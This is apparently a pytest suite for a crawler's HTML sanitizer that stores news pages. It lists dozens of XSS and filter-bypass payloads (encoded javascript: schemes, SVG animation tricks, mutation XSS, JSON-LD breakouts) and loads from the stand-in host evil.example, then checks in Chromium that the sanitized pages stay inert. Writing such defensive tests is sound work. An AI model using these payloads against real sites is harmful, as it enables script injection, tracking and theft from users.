"""Known XSS and sanitizer bypasses (OWASP filter-evasion style, SVG animation, mutation XSS)
stay inert after ``inert_html``: checked on the parsed output, and in the real Chromium by
loading the stored page, hovering and clicking everything on it."""

from __future__ import annotations

import json
import os
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from lxml import etree
from lxml.html import document_fromstring

from crawler.sanitize import inert_html

ARTICLE = "Officials met in Dushanbe on Friday to discuss the border."
JSON_LD = '{"@type": "NewsArticle", "headline": "Border talks"}'
EVIL = "https://evil.example"

# Each payload calls alert(<its id>) (or loads from evil.example) if it ever runs.
PAYLOADS: dict[str, str] = {
    "script": "<script>alert('script')</script>",
    "script src": f'<script src="{EVIL}/x.js"></script>',
    "script split by nesting": "<scr<script>ipt>alert('nesting')</scr</script>ipt><SCRIPT>alert('nesting')</SCRIPT>",
    "img onerror": "<img src=x onerror=alert('img')>",
    "handler in mixed case": "<img src=x OnErRoR=alert('case')>",
    "handler after a slash": "<img/onerror=alert('slash') src=x>",
    "body onload": "<body onload=alert('body')>",
    "svg onload": "<svg onload=alert('svg-onload')></svg>",
    "details ontoggle": "<details open ontoggle=alert('details')><summary>s</summary></details>",
    "javascript link": "<a href=\"javascript:alert('link')\">link</a>",
    "spaced mixed-case scheme": "<a href=\" JaVaScRiPt:alert('spaced')\">spaced</a>",
    "tab entity in scheme": "<a href=\"jav&#x09;ascript:alert('tab')\">tab</a>",
    "newline entity in scheme": "<a href=\"jav&#x0A;ascript:alert('newline')\">newline</a>",
    "decimal entities": "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert('dec')\">d</a>",
    "padded decimal entities": "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105"
                               "&#0000112&#0000116&#0000058alert('padded')\">p</a>",
    "hex entities": "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert('hex')\">h</a>",
    "named entities": "<a href=\"javascript&colon;alert('colon')\">c</a><a href=\"java&Tab;script:alert('t')\">t</a>",
    "control character prefix": "<a href=\"&#1;javascript:alert('ctrl')\">ctrl</a>",
    "scheme split by 100 tabs": "<a href=\"java" + "&#9;" * 100 + "script:alert('tabs')\">tabs</a>",
    "vbscript": "<a href=\"vbscript:msgbox('vb')\">vb</a>",
    "data: HTML link": "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">data</a>",
    "data: SVG link": "<a href=\"data:image/svg+xml,<svg onload=alert('datasvg')>\">svg</a>",
    "iframe javascript": "<iframe src=\"javascript:alert('iframe')\"></iframe>",
    "iframe srcdoc": "<iframe srcdoc=\"<script>alert('srcdoc')</script>\"></iframe>",
    "frameset": "<frameset><frame src=\"javascript:alert('frame')\"></frameset>",
    "object data": "<object data=\"javascript:alert('object')\"></object>"
                   "<object type=\"text/html\" data=\"data:text/html,<script>alert('object')</script>\"></object>",
    "embed": "<embed src=\"data:text/html,<script>alert('embed')</script>\">",
    "applet": "<applet code=\"x.class\" codebase=\"javascript:alert('applet')\"></applet>",
    "portal": f'<portal src="{EVIL}/portal"></portal>',
    "form action": "<form action=\"javascript:alert('form')\"><input type=submit value=go></form>",
    "button formaction": "<form><button formaction=\"javascript:alert('formaction')\">go</button></form>",
    "image input": "<input type=\"image\" src=\"javascript:alert('input')\" formaction=\"javascript:alert('input')\">",
    "isindex": "<isindex action=\"javascript:alert('isindex')\" type=\"image\">",
    "meta refresh to javascript": "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert('refresh')\">",
    "meta refresh away": f'<meta http-equiv="Refresh" content="0; url={EVIL}/refresh">',
    "base href": f'<base href="{EVIL}/"><a href="next/">relative</a>',
    "external stylesheet": f'<link rel="stylesheet" href="{EVIL}/x.css">',
    "imports and preloads": f'<link rel="import" href="{EVIL}/x.html"><link rel="preload" as="script" '
                            f'href="{EVIL}/x.js"><link rel="prefetch" href="{EVIL}/y"><link rel="alternate '
                            f'stylesheet" href="{EVIL}/z.css">',
    "style @import": f'<style>@import "{EVIL}/x.css";</style>',
    "style escaped @import": f"<style>@\\69mport url({EVIL}/x.css);</style>",
    "style attribute expression": "<div style=\"width: expression(alert('expr'))\">e</div>",
    "expression split by a comment": "<div style=\"width: expr/**/ession(alert('expr2'))\">e</div>",
    "style url javascript": "<div style=\"background:url('javascript:alert(1)')\">u</div>",
    "style escaped javascript": "<div style=\"background:url(&quot;j\\61vascript:alert(1)&quot;)\">u</div>",
    "moz-binding": f'<div style="-moz-binding:url({EVIL}/x.xml#xss)">b</div>',
    "svg animate href": "<svg width=\"200\" height=\"40\"><a><animate attributeName=\"href\" "
                        "values=\"javascript:alert('animate')\"/><text x=\"10\" y=\"25\">animate</text></a></svg>",
    "svg set href": "<svg width=\"200\" height=\"40\"><a><set attributeName=\"href\" to=\"javascript:alert('set')\"/>"
                    "<text x=\"10\" y=\"25\">set</text></a></svg>",
    "svg animate xlink:href": "<svg width=\"200\" height=\"40\"><a xlink:href=\"#\"><animate attributeName="
                              "\"xlink:href\" begin=\"0\" from=\"javascript:alert('xlinkanim')\" to=\"&\"/>"
                              "<text x=\"10\" y=\"25\">xlink</text></a></svg>",
    "svg animateMotion and transform": "<svg><animateMotion onbegin=alert('motion')/><animateTransform "
                                       "attributeName=\"href\" values=\"javascript:alert('transform')\"/></svg>",
    "svg xlink:href": "<svg width=\"200\" height=\"40\"><a xlink:href=\"javascript:alert('xlink')\">"
                      "<text x=\"10\" y=\"25\">xlink</text></a></svg>",
    "svg use data:": "<svg><use href=\"data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3Jn"
                     "LzIwMDAvc3ZnJz48L3N2Zz4=#x\"/></svg>",
    "svg script href": "<svg><script href=\"data:text/javascript,alert('svgscript')\"></script></svg>",
    "svg animate onbegin": "<svg><animate onbegin=alert('onbegin') attributeName=x dur=1s></animate></svg>",
    "math href": "<math href=\"javascript:alert('math')\"><mtext>math</mtext></math>",
    "math maction": "<math><maction actiontype=\"statusline\" xlink:href=\"javascript:alert('maction')\">"
                    "<mtext>maction</mtext></maction></math>",
    "noscript attribute (mXSS)": "<noscript><p title=\"</noscript><img src=x onerror=alert('noscript')>\"></noscript>",
    "noscript comment (mXSS)": "<noscript><!-- </noscript><img src=x onerror=alert('noscriptc')> --></noscript>",
    "svg style (mXSS)": "<svg><style><img src=x onerror=alert('svgstyle')></style></svg>",
    "math style (mXSS)": "<math><mtext><table><mglyph><style><img src=x onerror=alert('mathstyle')>",
    "svg style attribute (mXSS)": "<svg></p><style><a id=\"</style><img src=1 onerror=alert('styleattr')>\">",
    "CDATA in svg": "<svg><![CDATA[><img src=x onerror=alert('cdata')>]]></svg>",
    "comment closed by --!>": "<!-- a --!><img src=x onerror=alert('bang')> -->",
    "template": "<template><img src=x onerror=alert('template')></template>",
    "xmp breakout": "<xmp><p title=\"</xmp><img src=x onerror=alert('xmp')>\"></xmp>",
    "table background": "<table background=\"javascript:alert('table')\"><tr><td>t</td></tr></table>",
    "JSON-LD closing its script": "<script type=\"application/ld+json\">{\"a\": \"</script><img src=x "
                                  "onerror=alert('jsonld')>\"}</script>",
    "JSON-LD opening an escape": "<script type=\"application/ld+json\">{\"a\": \"<!--<script>\"}</script>"
                                 "<p>after</p>",
    "body background": "<body background=\"javascript:alert('background')\">",
    "video poster": "<video poster=\"javascript:alert('poster')\"></video>",
    "area href": "<img src=\"m.png\" usemap=\"#m\" width=\"50\" height=\"50\"><map name=\"m\"><area "
                 "href=\"javascript:alert('area')\" shape=\"rect\" coords=\"0,0,50,50\"></map>",
    "image tag": "<image src=x onerror=alert('image')>",
    "icon link": "<link rel=\"icon\" href=\"javascript:alert('icon')\">",
    # A stored page must not tell another host it was opened or clicked.
    "tracking pixel": f'<img src="{EVIL}/p.gif" width="1" height="1" alt=""><img src="{EVIL}/q.gif" '
                      'style="width: 0px; height: 0px">',
    "link ping": f'<a href="/next/" ping="{EVIL}/ping">ping</a>',
    "attributionsrc": f'<a href="/next/" attributionsrc="{EVIL}/a">a</a><img src="/a.jpg" attributionsrc="{EVIL}/b">',
    "foreignObject link": "<svg width=\"200\" height=\"40\"><foreignObject width=\"200\" height=\"40\"><a "
                          "href=\"javascript:alert('foreign')\">foreign</a></foreignObject></svg>",
}


def page(payload: str) -> str:
    """A stored article page with ``payload`` in its body (a ``<body ...>`` payload is its body tag)."""
    body, payload = (payload, "") if payload.startswith("<body") else ("<body>", payload)
    return (f"<html><head><title>Border talks</title><script type=\"application/ld+json\">{JSON_LD}</script>"
            f"</head>{body}<article><p>{ARTICLE}</p>{payload}<p>The talks go on.</p></article></body></html>")


_URL_ATTRIBUTES = {"href", "src", "srcset", "action", "formaction", "data", "background", "poster", "codebase",
                   "cite", "longdesc", "lowsrc", "dynsrc", "usemap", "profile", "manifest", "icon", "archive",
                   "classid", "code", "srcdoc"}
_ANIMATION = {"animate", "set", "animatemotion", "animatetransform", "animatecolor"}
_LOADING = {"stylesheet", "import", "preload", "modulepreload", "prefetch", "prerender"}
_GONE = {"iframe", "frame", "frameset", "object", "embed", "applet", "portal", "noscript", "base"}


def _plain(value: str) -> str:
    """A value as a browser reads its scheme: whitespace and control characters dropped."""
    return "".join(ch for ch in value if ch > " ").lower()


def _runs(value: str) -> bool:
    plain = _plain(value)
    scheme, _, rest = plain.partition(":")
    mime = rest.partition(",")[0]
    return scheme in ("javascript", "vbscript") or (scheme == "data" and any(k in mime for k in ("html", "svg", "xml")))


def _elements(html: str) -> Iterator[Any]:
    return document_fromstring(html).iter(etree.Element)  # type: ignore[no-any-return]


def violations(html: str) -> list[str]:
    """What in a stored page could still run, navigate or load from elsewhere."""
    document = document_fromstring(html)
    found = [f"processing instruction {pi}" for pi in document.iter(etree.ProcessingInstruction)]
    for element in document.iter(etree.Element):
        tag = element.tag.lower()
        text = element.text or ""
        if tag == "script" and (element.get("type") != "application/ld+json" or "</" in text or "<!--" in text):
            found.append(f"<script> {element.attrib}")
        if tag in _GONE or tag in _ANIMATION:
            found.append(f"<{tag}>")
        if tag == "meta" and "refresh" in (element.get("http-equiv") or "").lower():
            found.append("meta refresh")
        if tag == "link" and _LOADING & set((element.get("rel") or "").lower().split()):
            found.append(f"link rel={element.get('rel')}")
        if tag == "img" and (element.get("src") or "").startswith(EVIL) and (
                "1" in (element.get("width"), element.get("height")) or "0px" in (element.get("style") or "")):
            found.append(f"pixel {element.get('src')}")
        css = _plain(text).replace("\\69", "i") if tag == "style" else ""
        if "@import" in css or "<" in css:
            found.append(f"style {element.text!r}")
        for name, value in element.attrib.items():
            name = name.lower()
            style = _plain(value).replace("/**/", "").replace("\\61", "a") if name == "style" else ""
            if (name.startswith("on") or name in ("srcdoc", "ping", "attributionsrc")
                    or ((name in _URL_ATTRIBUTES or name.endswith("href")) and _runs(value))
                    or any(word in style for word in ("expression(", "javascript:", "-moz-binding"))):
                found.append(f"<{tag} {name}={value!r}>")
    return found


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_payload_is_inert_and_the_article_stays(payload: str) -> None:
    original = page(payload)
    assert violations(original)  # the check sees the payload before sanitizing
    clean = inert_html(original)
    assert violations(clean) == []
    text = " ".join(document_fromstring(clean).itertext())
    assert ARTICLE in text and "Border talks" in text
    assert JSON_LD in clean  # the JSON-LD extraction reads survives


def test_a_safe_page_keeps_its_links_styles_and_metadata() -> None:
    html = ('<html><head><meta charset="utf-8"><meta name="description" content="d"><link rel="canonical" '
            'href="https://asiaplus.news/x/"><link rel="alternate" hreflang="ru" href="https://asiaplus.news/ru/x/">'
            '<style>.a{color:red}</style></head><body><p style="color: blue">Text <a href="/news/1/">one</a> '
            '<img src="/a.jpg" srcset="/a.jpg 1x, /b.jpg 2x"><img src="/own-counter.gif" width="1" height="1">'
            '<img src="data:image/gif;base64,R0lGOD" data-src="/lazy.jpg" width="1" height="1"></p>'
            '<svg><a href="/two/"><text>two</text></a></svg>'
            '<form action="/search"><input name="q"></form></body></html>')
    clean = inert_html(html)
    for kept in ('<meta name="description" content="d">', '<link rel="canonical" href="https://asiaplus.news/x/">',
                 'hreflang="ru"', "<style>.a{color:red}</style>", 'style="color: blue"', 'href="/news/1/"',
                 'srcset="/a.jpg 1x, /b.jpg 2x"', 'href="/two/"', 'action="/search"', 'src="/own-counter.gif"',
                 'data-src="/lazy.jpg"'):
        assert kept in clean, kept


def test_json_ld_cannot_close_its_script_but_reads_the_same() -> None:
    data = {"@type": "NewsArticle", "headline": "a </p> <!-- b", "about": "</script><img src=x onerror=alert(1)>"}
    # as sites write it: "</script" escaped as "<\\/script" (else the page itself would end the script there)
    source = json.dumps(data).replace("</script", "<\\/script")
    clean = inert_html(f'<html><head><script type="application/ld+json">{source}</script></head><body></body></html>')
    scripts = [s.text for s in _elements(clean) if s.tag == "script"]
    assert len(scripts) == 1 and "</" not in scripts[0] and "<!--" not in scripts[0]
    assert json.loads(scripts[0]) == data


# --- the real Chromium --------------------------------------------------------------------------------------------

CHROMIUM = os.environ.get("CHROMIUM_PATH", "/usr/bin/chromium")
requires_chromium = pytest.mark.skipif(
    not Path(CHROMIUM).exists() and not os.environ.get("REQUIRE_BROWSER"),
    reason=f"{CHROMIUM} is not installed (apt-get install chromium)",
)
ORIGIN = "http://stored-page.test/"
# The payloads that ran in Chromium, or loaded from elsewhere, after the sanitizer of the
# previous release, and those a click or hover would trigger.
IN_BROWSER = ["svg animate href", "svg set href", "svg animate xlink:href", "noscript comment (mXSS)",
              "svg style (mXSS)", "math style (mXSS)", "svg style attribute (mXSS)", "scheme split by 100 tabs",
              "javascript link", "tab entity in scheme", "svg xlink:href", "form action", "button formaction",
              "meta refresh away", "base href", "external stylesheet", "imports and preloads", "style @import",
              "area href", "foreignObject link", "details ontoggle", "img onerror", "iframe srcdoc", "tracking pixel",
              "link ping"]


class StoredPage:
    """One Chromium tab that opens a stored page as ORIGIN and records what it does: the
    dialogs script opens and the URLs requested off ORIGIN (stylesheets, refreshes, frames)."""

    def __init__(self, tab: Any) -> None:
        self.tab, self.html = tab, ""
        self.dialogs: list[str] = []
        self.elsewhere: list[str] = []
        tab.on("dialog", lambda dialog: (self.dialogs.append(dialog.message), dialog.dismiss()))
        tab.route("**/*", self._route)

    def _route(self, route: Any) -> None:
        url = route.request.url
        if url == ORIGIN:
            route.fulfill(body=self.html, content_type="text/html; charset=utf-8")
            return
        if not url.startswith(ORIGIN):
            self.elsewhere.append(url)
        route.fulfill(status=404, body="")

    def visit(self, html: str) -> tuple[list[str], list[str]]:
        """Open ``html``, let animations and refreshes start, move to and click everything visible;
        returns (dialogs, requests elsewhere)."""
        self.html, self.dialogs, self.elsewhere = html, [], []
        tab = self.tab
        tab.goto(ORIGIN)
        tab.wait_for_timeout(200)
        for element in tab.query_selector_all("body *"):
            box = element.bounding_box() if tab.url == ORIGIN else None
            if box and box["width"] > 0 and box["height"] > 0:  # the pointer moves there: hover, then click
                tab.mouse.click(box["x"] + box["width"] / 2, box["y"] + box["height"] / 2)
                tab.wait_for_timeout(10)
            if tab.url != ORIGIN:  # a click that navigated: back to the stored page
                tab.goto(ORIGIN)
        tab.wait_for_timeout(100)
        tab.goto("about:blank")  # a refresh or timer still pending must not reach the next page
        return self.dialogs, self.elsewhere


@pytest.fixture(scope="module")
def chromium() -> Iterator[StoredPage]:
    from playwright.sync_api import sync_playwright

    from crawler.settings import PLAYWRIGHT_LAUNCH_OPTIONS

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(**{**PLAYWRIGHT_LAUNCH_OPTIONS, "executable_path": CHROMIUM})
        try:
            yield StoredPage(browser.new_page())
        finally:
            browser.close()


@requires_chromium
@pytest.mark.e2e
@pytest.mark.parametrize("name", IN_BROWSER)
def test_stored_page_runs_nothing_in_chromium(chromium: StoredPage, name: str) -> None:
    dialogs, elsewhere = chromium.visit(inert_html(page(PAYLOADS[name])))
    assert dialogs == [] and elsewhere == []


@requires_chromium
@pytest.mark.e2e
@pytest.mark.parametrize("name", ["svg animate href", "noscript comment (mXSS)", "svg style (mXSS)",
                                  "external stylesheet", "tracking pixel", "link ping"])
def test_the_chromium_check_sees_payloads_act(chromium: StoredPage, name: str) -> None:
    """Guard on the check itself: the same pages unsanitized do run script or load from elsewhere."""
    dialogs, elsewhere = chromium.visit(page(PAYLOADS[name]))
    assert dialogs or elsewhere
